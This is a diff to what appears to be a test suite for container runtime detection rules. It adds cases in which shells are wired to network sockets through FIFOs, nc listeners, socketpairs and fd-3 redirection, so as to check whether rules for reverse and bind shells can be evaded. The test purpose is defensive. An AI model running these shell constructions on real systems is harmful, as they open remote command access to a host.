@@ -40,7 +40,8 @@ METADATA_RULE = "Contact cloud metadata service from container"
 SETID = "Set setuid or setgid bit"
 FIFO_RELAY = ("mkfifo /tmp/in /tmp/out; {prog} < /tmp/in > /tmp/out &"
               f" /usr/bin/cauditd_evade fifo-relay /tmp/in /tmp/out {NOWHERE} 4445"
-              " < /dev/null > /dev/null")
+              " {fork} < /dev/null > /dev/null")
+READ_HOSTNAME = "/usr/bin/cauditd_evade read /etc/hostname"
 FIFO_LISTENER = ("mkfifo /tmp/f; /usr/bin/nc -l -p 4445 < /tmp/f | {prog} > /tmp/f &"
                  " /bin/sleep 0.5; echo exit | /usr/bin/nc -w 2 127.0.0.1 4445")
 
@@ -194,15 +195,26 @@ EVASIONS = [
             sh("mkfifo /tmp/f; (echo id > /tmp/f &); /bin/sh < /tmp/f | /bin/cat"),
             exec_asked("/bin/cat")),
     # a relay whose own stdio is on no pipe: it opens the shell's FIFOs by path
-    Evasion("relay-opening-the-fifos", "Reverse shell through pipes",
-            sh(FIFO_RELAY.format(prog="/bin/sh")), "container.image", TEST_IMAGE,
-            sh(FIFO_RELAY.format(prog="/bin/cat")),
-            execd("/usr/bin/cauditd_evade", "fifo-relay", "/tmp/in", "/tmp/out", NOWHERE, "4445")),
+    # ... and a child of it that holds them only by inheritance connects
+    *(Evasion(f"relay-opening-the-fifos{fork and '-then-forking'}", "Reverse shell through pipes",
+              sh(FIFO_RELAY.format(prog="/bin/sh", fork=fork)), "container.image", TEST_IMAGE,
+              sh(FIFO_RELAY.format(prog="/bin/cat", fork=fork)),
+              execd("/usr/bin/cauditd_evade", "fifo-relay", "/tmp/in", "/tmp/out", NOWHERE,
+                    "4445", *fork.split()))
+      for fork in ("", "fork")),
     # a relay through a socketpair (socat EXEC): the shell's stdio is a unix socket
     Evasion("relay-through-a-socketpair", "Shell started with a network socket on its stdio",
             evade("socketpair-exec", "listen", "/bin/sh"), "proc.stdin.type", "unix",
             evade("socketpair-exec", "none", "/bin/sh"),
             execd("/usr/bin/cauditd_evade", "socketpair-exec", "none", "/bin/sh")),
+    # a bind shell whose shell puts the connection it was handed on fd 3 onto its own stdio
+    # (the server's end: no redirect rule) and runs commands (a real fork + exec each); the
+    # shell lives on a while, as a session does (its sockets are read from /proc)
+    Evasion("shell-redirecting-its-own-stdio", "Shell started with a network socket on its stdio",
+            evade("accept-fd3", "4447", f"'exec <&3 >&3 2>&3; {READ_HOSTNAME}; sleep 1'"),
+            "proc.stdin.type", "ipv4",
+            evade("accept-fd3", "4447", f"'exec </dev/null; {READ_HOSTNAME}; sleep 1'"),
+            execd("/usr/bin/cauditd_evade", "read", "/etc/hostname")),
     # a bind shell that dups no socket: the relay accepts instead of connecting (the client is
     # in the same container, over its own loopback)
     Evasion("bind-shell-through-a-fifo", "Reverse shell through pipes",
